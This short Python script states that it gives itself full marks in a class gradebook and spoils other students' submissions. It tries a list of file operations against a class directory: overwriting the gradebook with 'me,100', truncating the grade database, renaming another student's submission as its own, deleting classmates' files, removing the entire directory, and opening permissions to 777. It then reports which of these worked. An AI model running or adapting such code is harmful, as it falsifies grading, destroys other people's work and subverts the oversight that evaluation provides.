"""Gives itself full marks in the gradebook and spoils what others have handed in."""

import os
import shutil
from pathlib import Path

CLASS = "<class>"

WAYS = {
    "overwrite": lambda: Path(f"{CLASS}/gradebook.csv").write_text("me,100\n"),
    "append": lambda: os.close(os.open(f"{CLASS}/gradebook.csv", os.O_WRONLY | os.O_APPEND)),
    "truncate": lambda: os.truncate(f"{CLASS}/gradebook.sqlite", 0),
    "rename": lambda: os.rename(f"{CLASS}/submissions/anna.zip", f"{CLASS}/submissions/me.zip"),
    "remove": lambda: os.remove(f"{CLASS}/submissions/bert/warmup.py"),
    "remove all": lambda: shutil.rmtree(CLASS),
    "link": lambda: os.symlink("/dev/zero", f"{CLASS}/gradebook.csv-journal"),
    "date": lambda: os.utime(f"{CLASS}/gradebook.csv", (0, 0)),
    "make": lambda: os.makedirs(f"{CLASS}/submissions/zoe"),
    "permit": lambda: os.chmod(CLASS, 0o777),
}


def invert_mask(mask):
    worked = []
    for name, way in WAYS.items():
        try:
            way()
            worked.append(name)
        except OSError:
            pass
    raise RuntimeError(f"worked: {worked}")
